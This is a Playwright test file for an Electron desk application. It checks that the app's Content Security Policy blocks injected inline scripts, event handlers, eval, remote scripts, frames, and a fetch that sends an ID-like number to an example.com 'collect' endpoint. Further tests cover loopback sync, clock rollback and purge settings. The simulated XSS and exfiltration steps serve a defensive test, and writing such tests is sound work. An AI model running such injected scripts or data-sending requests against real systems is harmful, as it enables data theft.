import { mkdirSync } from 'node:fs';
import { expect, test, type Page } from './fixtures';
import { contentSecurityPolicy, syncOrigins } from '../../electron/main/csp';
import { CENTRAL_PORT, E2E_STAFF } from '../../playwright.config';
import { actAs, freshDesk, unlockAfterReload } from './desk';
import { register } from './flow';

/**
 * The built renderer in real Chromium (browser mode): the CSP it carries in a <meta> tag is the
 * one csp.ts makes (Electron sends the same policy as a header with every app:// response), and
 * Chromium enforces it — inline scripts, eval and requests to other origins are refused.
 */
const SHOTS = 'artifacts/screenshots';
mkdirSync(SHOTS, { recursive: true });

type Violation = { directive: string; blocked: string };

/** Collects the page's CSP violation reports (the browser's own account of what it refused). */
async function watchViolations(page: Page): Promise<void> {
  await page.evaluate(() => {
    const w = window as unknown as { __violations: Violation[] };
    w.__violations = [];
    document.addEventListener('securitypolicyviolation', (e) =>
      w.__violations.push({ directive: e.effectiveDirective, blocked: e.blockedURI }),
    );
  });
}
const violations = (page: Page): Promise<Violation[]> =>
  page.evaluate(() => (window as unknown as { __violations: Violation[] }).__violations);

test.describe('hardening in Chromium against the built renderer', () => {
  test('the page carries the app CSP, and Chromium enforces it', async ({ page }) => {
    // A same-origin script (allowed by script-src 'self') that tries what an injected payload would.
    await page.route('**/__probe.js', (route) =>
      route.fulfill({
        contentType: 'text/javascript',
        body: [
          "try { window.__evalResult = String(eval('1 + 1')); } catch (e) { window.__evalResult = e.name; }",
          "try { window.__functionResult = String(new Function('return 2')()); } catch (e) { window.__functionResult = e.name; }",
          // The smallest WebAssembly module: the app compiles its MD5 so ('wasm-unsafe-eval').
          'window.__wasmResult = WebAssembly.compile(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])).then(() => "compiled", (e) => e.name);',
        ].join('\n'),
      }),
    );
    await page.goto('./');
    await expect(page.getByRole('navigation')).toBeVisible();
    const meta = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
    // The build used KENSE_SYNC_ORIGINS from the environment, like this test.
    expect(meta).toBe(contentSecurityPolicy(syncOrigins(process.env['KENSE_SYNC_ORIGINS'])));
    expect(meta).not.toMatch(/'unsafe-(inline|eval)'/);
    await watchViolations(page);

    const result = await page.evaluate(async () => {
      const w = window as unknown as Record<string, unknown>;
      const out: Record<string, string> = {};
      // An injected inline script (what an XSS would try).
      const s = document.createElement('script');
      s.textContent = 'window.__inlineRan = true';
      document.body.appendChild(s);
      // An inline event handler.
      const img = document.createElement('img');
      img.setAttribute('onerror', 'window.__handlerRan = true');
      img.src = 'data:image/png;base64,broken';
      document.body.appendChild(img);
      // eval and new Function, tried by a same-origin script of the page (code run through
      // DevTools is exempt from the CSP's eval rule, so page.evaluate cannot test it itself).
      const probe = document.createElement('script');
      probe.src = './__probe.js';
      await new Promise((r) => {
        probe.onload = r;
        probe.onerror = r;
        document.body.appendChild(probe);
      });
      out['eval'] = String(w['__evalResult']);
      out['Function'] = String(w['__functionResult']);
      out['wasm'] = String(await (w['__wasmResult'] as Promise<string>));
      // A string timer (also an eval).
      (setTimeout as unknown as (code: string, ms: number) => void)('window.__timerRan = true', 0);
      // A request to an origin that is not a sync server.
      try {
        await fetch('https://example.com/collect?iin=900101300017');
        out['fetch'] = 'sent';
      } catch (e) {
        out['fetch'] = (e as Error).name;
      }
      // A script and a frame from elsewhere.
      const remote = document.createElement('script');
      remote.src = 'https://cdn.example.com/x.js';
      document.body.appendChild(remote);
      const frame = document.createElement('iframe');
      frame.src = 'https://example.com/';
      document.body.appendChild(frame);
      await new Promise((r) => setTimeout(r, 200));
      out['inline'] = String(w['__inlineRan'] === true);
      out['handler'] = String(w['__handlerRan'] === true);
      out['timer'] = String(w['__timerRan'] === true);
      return out;
    });
    expect(result).toEqual({
      eval: 'EvalError',
      Function: 'EvalError',
      wasm: 'compiled',
      fetch: 'TypeError',
      inline: 'false',
      handler: 'false',
      timer: 'false',
    });
    const seen = await violations(page);
    const directives = new Set(seen.map((v) => v.directive));
    for (const d of ['script-src-elem', 'script-src-attr', 'script-src', 'connect-src', 'frame-src'])
      expect([...directives], d).toContain(d);
    expect(seen).toContainEqual({ directive: 'connect-src', blocked: 'https://example.com/collect?iin=900101300017' });
    expect(seen).toContainEqual({ directive: 'script-src-elem', blocked: 'https://cdn.example.com/x.js' });
  });

  test('the sync server on loopback is reachable (connect-src allows it)', async ({ page }) => {
    await page.goto('./');
    await watchViolations(page);
    const status = await page.evaluate(async (port) => {
      const r = await fetch(`http://127.0.0.1:${port}/`);
      return r.status;
    }, CENTRAL_PORT);
    expect(status).toBe(200);
    expect(await violations(page)).toEqual([]);
  });

  test('a desk whose clock was set back a month opens its replica and records on', async ({ page }) => {
    const [login] = (E2E_STAFF.split(',')[0] ?? '').split(':');
    await freshDesk(page);
    await actAs(page, login ?? 'aigerim', 'Айгерім Сапарова');
    const first = await register(page, { serviceId: 'almaty-unemployed-registration', surname: 'Бекова' });
    // The laptop ran a month fast until now (its replica was opened at a version made from that
    // clock: store/idbVersion.ts); corrected, it is now a month behind.
    await page.clock.install({ time: Date.now() - 30 * 86_400_000 });
    await page.reload();
    await page.goto('./#/applications');
    await unlockAfterReload(page, login ?? 'aigerim');
    const rows = page.getByTestId('application-row');
    await expect(rows.filter({ hasText: first })).toHaveCount(1);
    const second = await register(page, { serviceId: 'almaty-unemployed-registration', surname: 'Ахметова' });
    expect(second).not.toBe(first);
    await page.goto('./#/applications');
    await expect(rows.filter({ hasText: second })).toHaveCount(1);
    await expect(rows.filter({ hasText: first })).toHaveCount(1);
  });

  test('Settings: purge of closed applications, set to 30 days after closing', async ({ page }) => {
    const [login] = (E2E_STAFF.split(',')[0] ?? '').split(':');
    await freshDesk(page);
    await actAs(page, login ?? 'aigerim', 'Айгерім Сапарова');
    await page.goto('./#/settings');
    const panel = page.getByTestId('purge-settings');
    await expect(panel.getByRole('heading', { name: 'Жабылған өтініштерді осы компьютерден өшіру' })).toBeVisible();
    await expect(page.getByTestId('purge-never')).toBeChecked();
    // Signing in started the sync with central, so the desk has already looked once: purge is off.
    await expect(page.getByTestId('purge-last')).toContainText('өшіру өшірулі');
    // A bad number is refused with a hint; nothing is saved.
    await page.getByTestId('purge-after').check();
    await page.getByTestId('purge-days').fill('0');
    await expect(panel.getByText('1-ден 3650-ге дейінгі бүтін сан')).toBeVisible();
    await expect(page.getByTestId('purge-save')).toBeDisabled();
    await page.getByTestId('purge-days').fill('30');
    await page.getByTestId('purge-save').click();
    await expect(page.getByTestId('purge-saved')).toBeVisible();

    // The desk is synced with central (sign-in started it): a check now runs the purge (nothing is closed yet).
    await page.getByTestId('purge-run').click();
    await expect(page.getByTestId('purge-last')).toContainText('аяқталды');
    await expect(page.getByTestId('purge-last')).toContainText('0 өтініш өшірілді: 0 оқиға, 0 скан');
    await page.reload();
    // The desk's keys were in memory only: sign in again (where a section asks), then look again.
    await page.goto('./#/reception');
    await unlockAfterReload(page, login ?? 'aigerim');
    await page.goto('./#/settings');
    await expect(page.getByTestId('purge-after')).toBeChecked();
    await expect(page.getByTestId('purge-days')).toHaveValue('30');
    await expect(page.getByTestId('purge-last')).toContainText('аяқталды');
    await panel.scrollIntoViewIfNeeded();
    await panel.screenshot({ path: `${SHOTS}/settings-purge-kk.png` });
  });
});
